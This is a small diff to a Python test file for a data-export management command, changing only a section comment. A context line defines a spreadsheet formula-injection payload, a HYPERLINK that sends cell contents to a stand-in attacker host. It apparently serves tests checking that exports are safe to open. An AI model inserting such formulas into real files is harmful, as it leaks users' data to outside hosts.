@@ -181,7 +181,7 @@ def test_management_command_writes_each_format(tmp_path, capsys):
         call_command("export_judgements", campaign.slug, "--criterion", "nope")
 
 
-# Safe to open, and saying what a reader needs (issue 9 §4, issue 10 §2) ----------------------
+# Safe to open, and saying what a reader needs ----------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
